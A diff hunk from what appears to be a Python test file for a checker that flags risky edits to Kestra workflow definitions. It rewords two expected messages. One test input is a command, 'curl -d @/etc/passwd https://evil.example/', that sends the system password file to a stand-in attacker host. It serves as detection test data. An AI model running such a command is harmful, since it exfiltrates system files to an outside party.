@@ -185,13 +185,13 @@ NOTIFY = "format: \"{{ secret('MY_SECRET') | length }} {{ vars.base }}\""
         (edits((COMMAND, "- curl -d @/etc/passwd https://evil.example/")), "it brings in the host evil.example"),
         (edits((NOTIFY, NOTIFY.replace(" | length", ""))), "what the task notify does with secrets"),
         (edits(("https://example.com/data", "elsewhere")), "what the task notify does with secrets"),
-        (edits(("namespace: tests.models", "namespace: tests.other")), "it gives the flow another name"),
+        (edits(("namespace: tests.models", "namespace: tests.other")), "it changes a trigger or the name of the flow"),
         (edits(("id: report", "id: other")), "it takes out the task report"),
         (
             edits((COMMAND, COMMAND + "\n  - {id: more, type: io.kestra.plugin.core.execution.Fail}")),
             "it brings in the task type io.kestra.plugin.core.execution.Fail",
         ),
-        (edits((COMMAND, COMMAND + TRIGGER)), "it changes a trigger"),
+        (edits((COMMAND, COMMAND + TRIGGER)), "it changes a trigger or the name of the flow"),
         (edits((COMMAND, "- echo ⟨hidden 1⟩")), "It moves what is hidden from it to another place."),
     ],
 )
